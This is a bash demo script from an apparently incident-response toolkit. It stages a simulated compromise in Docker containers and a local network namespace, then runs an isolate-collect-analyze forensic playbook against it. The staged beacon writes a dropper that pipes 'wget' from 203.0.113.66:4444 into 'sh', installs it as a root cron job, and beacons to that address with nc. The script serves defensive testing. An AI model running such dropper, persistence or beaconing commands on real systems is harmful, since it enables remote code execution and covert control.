#!/usr/bin/env bash
# demo-incident.sh [--evidence DIR] [--clean]
#
# Stages a small incident on this machine and runs the playbook against it, given only the
# attacker's address, as a responder would:
#   - an "internet" peer 203.0.113.66 (a documentation address) in a network namespace of our
#     own (tests/testbed/internet-peer.sh), listening on TCP 4444;
#   - a user-defined (non-internal) bridge network;
#   - a "beacon" container that drops /tmp/dropper.sh, writes a root crontab, keeps one TCP
#     connection to 203.0.113.66:4444 open and opens a new one every second;
#   - a "bystander" container on the same network, doing nothing wrong.
# Then playbooks/isolate-collect-analyze.sh --ip 203.0.113.66 locates, isolates, collects and
# analyses, and this script prints where the report is. Everything it staged (containers,
# network, namespace, listener, quarantine rules, the images ir-collect committed) is removed
# on exit, even on failure or Ctrl-C. The evidence and the report are what the demo produces:
# they stay in DIR (default /tmp/forensic-demo-<case>) unless --clean is given.
#
# Needs root, a Docker engine, the image irtest/busybox:latest (tests/testbed/build-image.sh)
# and the built tools ($FORENSIC_TOOLS_DIR, else $PATH; playbooks/run-demo.sh sets PATH).
set -euo pipefail
here=$(cd "$(dirname "$0")" && pwd)
src=$(cd "$here/.." && pwd)

evidence="" clean=""
while [[ $# -gt 0 ]]; do
  case $1 in
    --evidence) evidence=${2:?}; shift 2 ;;
    --clean) clean=1; shift ;;
    *) sed -n '2p' "$0" | sed 's/^# //' >&2; exit 2 ;;
  esac
done

tools=${FORENSIC_TOOLS_DIR:-}
isolate=${tools:+$tools/}ir-isolate

peer_addr=203.0.113.66
tag=demo$$
peer=irdemo$$
net=$tag-net
case_id=DEMO-$(date -u +%Y%m%dT%H%M%SZ)
evidence=${evidence:-/tmp/forensic-demo-$case_id}
listener_pid=""

cleanup() {
  set +e
  for c in $tag-beacon $tag-bystander; do
    id=$(docker inspect -f '{{.Id}}' "$c" 2>/dev/null) && "$isolate" "$id" --release >/dev/null 2>&1
  done
  docker rm -f -v "$tag-beacon" "$tag-bystander" >/dev/null 2>&1
  docker network rm "$net" >/dev/null 2>&1
  [[ -z $listener_pid ]] || kill "$listener_pid" 2>/dev/null
  bash "$src/tests/testbed/internet-peer.sh" down "$peer"
  # The images ir-collect committed for the case.
  docker images -q --filter "label=forensic.case=$case_id" 2>/dev/null | xargs -r docker rmi -f >/dev/null 2>&1
  [[ -z $clean ]] || rm -rf "$evidence"
}
trap cleanup EXIT
trap 'exit 130' INT TERM

echo "== staging the incident"
bash "$src/tests/testbed/internet-peer.sh" up "$peer" "$peer_addr"
# A persistent listener: one forked `cat` per connection, so connections stay open.
ip netns exec "$peer" busybox nc -ll -p 4444 -e /bin/cat </dev/null >/dev/null 2>&1 &
listener_pid=$!

docker network create --label "forensic.demo=$tag" "$net" >/dev/null
docker run -d --name "$tag-bystander" --label "forensic.demo=$tag" --network "$net" \
  irtest/busybox:latest sleep 3600 >/dev/null
docker run -d --name "$tag-beacon" --label "forensic.demo=$tag" --network "$net" \
  irtest/busybox:latest sh -c '
    echo "wget -q -O- http://203.0.113.66:4444/stage2 | sh" > /tmp/dropper.sh
    chmod +x /tmp/dropper.sh
    mkdir -p /var/spool/cron/crontabs
    echo "* * * * * /tmp/dropper.sh" > /var/spool/cron/crontabs/root
    (sleep 100000 | nc 203.0.113.66 4444 >/dev/null) &
    while true; do timeout -s KILL 2 nc 203.0.113.66 4444 </dev/null >/dev/null 2>&1; sleep 1; done' >/dev/null

# Wait until the beacon holds its connection (the kernel's view, as ir-locate will see it).
for _ in $(seq 1 30); do
  pid=$(docker inspect -f '{{.State.Pid}}' "$tag-beacon")
  if nsenter --net="/proc/$pid/ns/net" cat /proc/net/tcp | awk '$4 == "01"' | grep -qi ':115C '; then
    break
  fi
  sleep 1
done
echo "   beacon $tag-beacon talks to $peer_addr:4444; bystander $tag-bystander idles"

echo "== running the playbook with nothing but the address"
output=$(bash "$here/isolate-collect-analyze.sh" --ip "$peer_addr" --out "$evidence" --case "$case_id" --capture 8)
echo "$output"
report=$(grep '^report: ' <<<"$output" | head -n 1 | cut -d' ' -f2-)
echo
echo "== report: $report"
if [[ -t 1 && -f $report ]]; then
  sed -n '1,40p' "$report"
fi
[[ -z $clean ]] || echo "(--clean: the evidence directory is removed on exit)"
